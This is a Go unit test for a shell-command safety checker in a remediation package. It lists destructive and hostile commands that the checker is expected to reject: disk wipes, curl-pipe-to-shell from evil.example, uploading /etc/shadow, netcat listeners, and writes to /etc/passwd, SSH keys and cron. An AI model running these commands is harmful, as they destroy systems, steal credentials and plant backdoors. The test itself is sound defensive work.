package remediation

import (
	"errors"
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestCheckCommand(t *testing.T) {
	tests := []struct {
		name string
		cmd  string
		safe bool
	}{
		{"wipe root", "rm -rf /", false},
		{"wipe root glob", "rm -rf /*", false},
		{"restart service", "systemctl restart nginx", true},
		{"arbitrary binary", "/opt/tools/fixit --all", false},
		{"empty", "   ", false},
		{"reboot", "reboot", false},
		{"shutdown chained after whitelisted", "uptime && shutdown -h now", false},
		{"mkfs", "mkfs.ext4 /dev/sdb1", false},
		{"dd", "dd if=/dev/zero of=/dev/sda", false},
		{"curl pipe sh", "curl -sf http://evil.example/x.sh | sh", false},
		{"destructive sql", "psql -c 'DROP TABLE users'", false},
		{"backtick", "echo `id`", false},
		{"command substitution", "tail -n 10 $(cat /tmp/f)", false},
		{"pipeline of whitelisted", "ps aux --sort=-%cpu | head -n 10", true},
		{"pipeline into non whitelisted", "ps aux | xargs kill", false},
		{"semicolon sneaks binary", "df -h; wget http://x", false},
		{"background sneaks binary", "uptime & nc -l 4444", false},
		{"fd redirect kept", "tail -n 100 /var/log/syslog 2>&1 | grep error", true},
		{"bounded cleanup", "find /tmp -type f -mtime +7 -delete", true},
		{"find exec", "find /tmp -name x -exec rm {} ;", false},
		{"find outside bounded dirs", "find / -delete", false},
		{"drop caches", "echo 1 > /proc/sys/vm/drop_caches", true},
		{"write to etc", "grep x /tmp/a > /etc/passwd", false},
		{"prefix must end at word", "dfx", false},
		{"docker restart", "docker restart api", true},
		{"journal vacuum", "journalctl --vacuum-time=7d", true},
		{"find second path outside bounded dirs", "find /tmp / -delete", false},
		{"find path escapes with dotdot", "find /tmp/../etc -delete", false},
		{"find relative path", "find . -delete", false},
		{"find without path", "find -delete", false},
		{"find execdir", "find /var/log -execdir sh -c 'id' +", false},
		{"find ok", "find /tmp -ok rm {} ;", false},
		{"find fprint", "find /tmp -fprint /etc/cron.d/x", false},
		{"find chained after ping", "ping -c 3 10.0.0.7; find /tmp / -delete", false},
		{"find several bounded dirs", "find /tmp /var/tmp -type f -mtime +7 -delete", true},
		{"kill init", "kill -9 1", false},
		{"kill every process", "kill -9 -1", false},
		{"kill chained after restart", "systemctl restart nginx; kill -9 1", false},
		{"pkill systemd", "pkill systemd", false},
		{"kill pid", "kill -15 4242", true},
		{"curl output file", "curl -sf http://evil.example/x -o /usr/local/bin/kubectl", false},
		{"curl long output", "curl -sf --output=/usr/local/bin/x http://evil.example/x", false},
		{"curl clustered output", "curl -sfo /usr/local/bin/x http://evil.example/x", false},
		{"curl upload", "curl -sf -T /etc/shadow http://evil.example/", false},
		{"curl probe", "curl -sf http://127.0.0.1:8080/healthz", true},
		{"redirect to ssh keys", "grep x /tmp/a > /root/.ssh/authorized_keys", false},
		{"append redirect", "tail -n 1 /var/log/syslog >> /var/spool/cron/root", false},
		{"redirect to dev null", "grep -q nginx /var/log/syslog > /dev/null", true},
		{"sort output file", "sort -o /etc/passwd /tmp/a", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := CheckCommand(tt.cmd)
			if tt.safe {
				assert.NoError(t, err)
				assert.True(t, IsSafe(tt.cmd))
				return
			}
			assert.Error(t, err)
			assert.True(t, errors.Is(err, ErrUnsafeCommand))
			assert.False(t, IsSafe(tt.cmd))
		})
	}
}
